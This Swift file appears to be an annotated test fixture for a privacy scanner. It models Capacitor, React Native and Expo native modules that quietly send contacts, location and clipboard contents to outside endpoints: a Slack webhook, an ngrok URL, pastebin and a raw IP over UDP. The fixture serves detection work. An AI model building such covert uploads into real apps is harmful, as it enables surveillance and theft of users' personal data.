// Native modules of cross-platform apps (React Native, Capacitor, Expo) as shipped by
// "free VPN", "cleaner" and "quiz" apps: JavaScript asks for a harmless feature and
// the Swift side reads contacts, location or the clipboard and posts them through a
// shared transport helper that takes the URL as a parameter.
import Capacitor
import Contacts
import CoreLocation
import ExpoModulesCore
import React
import UIKit

/// The transport every module shares; where it sends is decided by the caller.
final class BridgeTransport {
    static let shared = BridgeTransport()

    func postJSON(_ body: [String: Any], to endpoint: String) {
        var request = URLRequest(url: URL(string: endpoint)!)
        request.httpMethod = "POST"
        request.httpBody = try? JSONSerialization.data(withJSONObject: body) //~ data-upload/contacts-to-network data-upload/location-to-network data-upload/clipboard-to-network
        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
    }

    func beacon(_ value: String, host: String) {
        let connection = NWConnection(host: NWEndpoint.Host(host), port: 9001, using: .udp)
        connection.start(queue: .main)
        connection.send(content: Data(value.utf8), completion: .idempotent) //~ data-upload/clipboard-to-network data-upload/suspicious-destination
    }
}

// Capacitor: `Contacts.getAll()` in JavaScript; the plugin also ships the address book.
@objc(ContactsBridgePlugin)
public class ContactsBridgePlugin: CAPPlugin {
    private let store = CNContactStore()

    @objc func getAll(_ call: CAPPluginCall) {
        let keys = [CNContactGivenNameKey, CNContactPhoneNumbersKey] as [CNKeyDescriptor]
        var rows: [[String: String]] = []
        try? store.enumerateContacts(with: CNContactFetchRequest(keysToFetch: keys)) { contact, _ in
            let phone = contact.phoneNumbers.first?.value.stringValue ?? ""
            rows.append(["n": contact.givenName, "p": phone])
        }
        call.resolve(["contacts": rows])
        BridgeTransport.shared.postJSON(["rows": rows], to: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX")
    }

    @objc func shareOwnCard(_ call: CAPPluginCall) {
        guard let me = try? store.unifiedMeContactWithKeys(toFetch: [CNContactEmailAddressesKey as CNKeyDescriptor]) else { return }
        let email = me.emailAddresses.first.map { String($0.value) } ?? ""
        let payload = "owner=\(email)"
        AF.request("https://api.quizfun-app.com/v1/profile", method: .post, parameters: ["d": payload]) //~ data-upload/contacts-to-network
    }
}

// React Native: `NativeModules.GeoHelper.current()`.
@objc(GeoHelper)
class GeoHelper: NSObject, RCTBridgeModule {
    static func moduleName() -> String! { "GeoHelper" }
    private let manager = CLLocationManager()

    @objc func current(_ resolve: @escaping RCTPromiseResolveBlock, rejecter reject: @escaping RCTPromiseRejectBlock) {
        guard let fix = manager.location else { return reject("E_NOFIX", "no fix", nil) }
        resolve(["lat": fix.coordinate.latitude, "lon": fix.coordinate.longitude])
        let report: [String: Any] = ["lat": fix.coordinate.latitude, "lon": fix.coordinate.longitude, "t": Date().timeIntervalSince1970]
        BridgeTransport.shared.postJSON(report, to: "https://b7c1-203-0-113-9.ngrok-free.app/geo")
    }

    @objc func watch(_ resolve: @escaping RCTPromiseResolveBlock, rejecter reject: @escaping RCTPromiseRejectBlock) {
        Task {
            for try await update in CLLocationUpdate.liveUpdates() {
                guard let location = update.location else { continue }
                let line = "\(location.coordinate.latitude),\(location.coordinate.longitude)"
                var request = URLRequest(url: URL(string: "https://api.quizfun-app.com/v1/trail")!)
                request.httpMethod = "POST"
                request.httpBody = line.data(using: .utf8) //~ data-upload/location-to-network
                _ = try? await URLSession.shared.data(for: request)
            }
        }
    }
}

// Expo: `Clipboard.getStringAsync()` that also mirrors what it read.
public class ClipboardMirrorModule: Module {
    public func definition() -> ModuleDefinition {
        Name("ClipboardMirror")

        AsyncFunction("getStringAsync") { () -> String in
            let text = UIPasteboard.general.string ?? ""
            let trimmed = text.trimmingCharacters(in: .whitespacesAndNewlines)
            BridgeTransport.shared.postJSON(["clip": trimmed], to: "https://pastebin.com/api/api_post.php")
            return text
        }

        Function("watchClipboard") {
            NotificationCenter.default.addObserver(forName: UIPasteboard.changedNotification, object: nil, queue: .main) { _ in
                let copied = UIPasteboard.general.string ?? ""
                BridgeTransport.shared.beacon(copied, host: "45.141.87.12")
            }
        }

        Function("copyToClipboard") { (value: String) in
            UIPasteboard.general.string = value // ok: writing to the clipboard reads nothing
        }

        Function("hasStrings") { () -> Bool in
            UIPasteboard.general.hasStrings // ok: a yes/no check, the contents are not read
        }
    }
}
